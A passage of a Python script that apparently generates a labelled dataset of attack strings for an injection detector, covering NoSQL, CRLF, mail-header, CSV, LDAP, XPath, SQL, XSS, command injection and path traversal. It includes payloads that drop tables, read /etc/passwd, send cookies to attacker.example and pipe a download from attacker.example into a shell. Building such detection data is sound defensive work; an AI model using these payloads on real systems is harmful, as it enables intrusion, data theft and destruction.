    "status[$nin][]=archived&owner[$exists]=false",
    "{\"$where\": \"sleep(5000) || true\"}",
    "{\"$where\": \"this.role == 'admin' && this.password.match(/^a/)\"}",
    "'; return db.users.find(); var x='",
    "quarry', $where: '1 == 1",
    "{\"tile\": {\"$gt\": \"\"}, \"$comment\": \"x\", \"owner\": {\"$ne\": \"me\"}}",
    "{\"reset_token\": {\"$regex\": \"^7\", \"$options\": \"s\"}}",
    "[$regex]=.{24}",
    "{\"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"a\"]}}",
    "{\"name\":\"P118\",\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}",
    "{\"email\": {\"$regex\": \"@attacker\\\\.example$|.*\"}}",
    "username=admin&password[%24ne]=",
    "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}",
    "true, $where: 'this.constructor.constructor(\"return process\")().exit()'",
    "{\"client\": {\"$not\": {\"$size\": 0}}, \"role\": {\"$in\": [\"admin\",\"staff\"]}}",
    "db.invoices.drop()",
    "{\"$and\":[{\"paid\":{\"$type\":8}},{\"amount\":{\"$gte\":0}}],\"$where\":\"sleep(100)\"}",
    "q={\"selector\":{\"_id\":{\"$gt\":null}}}",
    "{\"email\":{\"$eq\":\"a@b\"},\"password\":{\"$regex\":\"^\"}}",
    "filter[$where]=function(){return this.api_key.length>0}",
])

# ---------------------------------------------------------------- crlf
lit("crlf", "log-forging", [
    "tile_0133 missing\n2024-05-12 07:10:02 INFO user=admin action=approve_invoice id=0412 status=OK",
    "Flight 2 aborted\r\n[2024-05-12T09:14:55Z] AUTH success user=ops@survey.example.com ip=10.0.0.5",
    "CP-19A%0a127.0.0.1 - admin [12/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200",
    "riverside%0d%0aWARN deliverables purged by user=j.nakamura",
    "quarry north\n\n=== AUDIT: payment of $12,400 released by finance ===",
    "crew log entry\u2028INFO login ok user=root",
    "search term %E5%98%8A%E5%98%8DINFO: export completed by admin",
])
lit("crlf", "header-injection", [
    "en%0d%0aSet-Cookie:%20session=attacker-fixed;%20Path=/",
    "/deliverables%0D%0ALocation:%20https://attacker.example/login",
    "report.pdf\r\nContent-Disposition: attachment; filename=invoice.html\r\nContent-Type: text/html",
    "P118_DTM.tif%0d%0aX-Accel-Redirect:%20/internal/secrets/",
    "nz%0AAccess-Control-Allow-Origin:%20https://attacker.example%0AAccess-Control-Allow-Credentials:%20true",
    "utf-8%0d%0aRefresh:%200;url=//attacker.example/",
    "return=/projects%E5%98%8D%E5%98%8ASet-Cookie:role=admin",
    "viewer%5cr%5cnX-Forwarded-Host:%20attacker.example",
])
lit("crlf", "response-splitting", [
    "lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "/download?f=dtm.tif\r\n\r\n<html><body>Session expired, <a href=//attacker.example>log in</a></body></html>",
    "next=/home%0d%0a%0d%0a<svg onload=alert(document.domain)>",
    "tile_0001.laz%0D%0AContent-Type:text/html%0D%0A%0D%0A%3Cscript%3Efetch('//attacker.example/'+document.cookie)%3C/script%3E",
    "ok\r\nHTTP/1.1 302 Found\r\nLocation: https://attacker.example/\r\n\r\n",
])
lit("crlf", "mail-header", [
    "Karen Smith\r\nBcc: list@attacker.example",
    "client@client.example.org%0aCc:victims@attacker.example",
    "Invoice 0412 query\r\nBcc: harvest@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=http://attacker.example/pay>Pay now</a>",
    "Re: quote\nReply-To: accounts@attacker.example",
    "pm@client.example.org\r\nTo: everyone@attacker.example",
    "Sam%0d%0aX-Mailer:%20x%0d%0aBcc:%20spam@attacker.example",
])
lit("crlf", "csv-row-injection", [
    "Quarry north volumes\n999,ATTACKER,=HYPERLINK(\"http://attacker.example\",\"Click\"),paid",
    "CP-62 nail in kerb\r\nCP-99,0,0,0,\"=cmd|' /C calc'!A0\"",
    "Great job\"\n\"admin@attacker.example\",\"admin\",\"approved",
    "stockpile C\",\"12450\"\r\n\"INV-9999\",\"-12450\",\"credit approved",
])

# ---------------------------------------------------------------- ldap-xpath
lit("ldap-xpath", "ldap", [
    "*)(uid=*))(|(uid=*",
    "jnakamura)(|(objectClass=*)",
    "admin)(&)",
    "*)(userPassword=*)",
    "surveyors)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)",
    "x*)(|(mail=*@attacker.example",
    "Okafor\\29(\\7c(cn=\\2a",
    "*)%00",
    "pilot*)(!(accountDisabled=TRUE)",
    "cn=*)(description=*pass*",
])
lit("ldap-xpath", "xpath", [
    "' or '1'='1",
    "CP-19A' or count(/controlPoints/cp)>0 or 'a'='b",
    "x' or name()='user' or 'x'='y",
    "']|//user/password|//*['",
    "P118' and substring(//user[1]/password,1,1)='a' and '1'='1",
    "1 or 1=1]/ancestor::*",
    "quarry\" or string-length(//apikey)>0 or \"\"=\"",
    "') or contains(//invoice/iban,'NZ') or ('",
    "doc('http://attacker.example/x.xml')",
    "'] | //*[contains(.,'secret')] | a['",
])

# ------------------------------------------------ small generated part
SQLI_POOL = ["' OR 1=1-- ", "' AND SLEEP(5)-- ", "' UNION SELECT NULL,token FROM sessions-- ", "'; DROP TABLE jobs;--"]
SQLI_PREFIX = ["Westgate retail park", "tile_0288", "Fa'asalele boundary", "contours 0.5m"]
XSS_POOL = ["<img src=x onerror=alert(1)>", "<svg onload=alert(document.cookie)>", "<script src=//attacker.example/h.js></script>"]
XSS_PREFIX = ["The orthophoto has a blurry patch ", "Client rep note: ", "Stage 2 approved "]
CMD_POOL = ["; id", "| curl attacker.example/q|sh", "$(sleep 6)", "`uname -a`"]
CMD_PREFIX = ["B_05_02.laz", "dtm_50cm.tif", "flight_07.kmz"]
TRAV_URLENC = ["../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ"]
SQLI_URLENC = ["tile' OR '1'='1'-- ", "x' UNION SELECT password FROM users--"]


def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def gen(cat, cls, prefixes, pool, n):
    made = set()
    while len(made) < n:
        v = rng.choice(prefixes) + rng.choice(pool)
        if v in made:
            continue
        made.add(v)
        ROWS.append((cat, cls, v, False))


gen("sqli", "union-or-boolean+template", SQLI_PREFIX, SQLI_POOL, 6)
for v in SQLI_URLENC:
    ROWS.append(("sqli", "boolean+urlencode", pct(v), False))
gen("xss", "event-handler+template", XSS_PREFIX, XSS_POOL, 2)
gen("cmdi", "separator+template", CMD_PREFIX, CMD_POOL, 6)
for v in TRAV_URLENC:
    ROWS.append(("traversal", "dotdot+urlencode", pct(v), False))


def build():
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = sorted(ROWS, key=lambda r: order.index(r[0]))  # stable sort keeps authored order
    seen = set()
    out = os.path.join(HERE, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (c, cls, v, _) in enumerate(rows, 1):
            assert 1 <= len(v) <= 2000, v
            assert v not in seen, v
            assert v not in benign, v
            for ch in v:
                assert ch in "\n\r\t" or ord(ch) >= 32, repr(v)
            seen.add(v)
            f.write(json.dumps({"id": "halq-%05d" % i, "category": c, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    return rows


if __name__ == "__main__":
    r = build()
    print(len(r), "attacks,", sum(1 for x in r if x[3]), "literals")
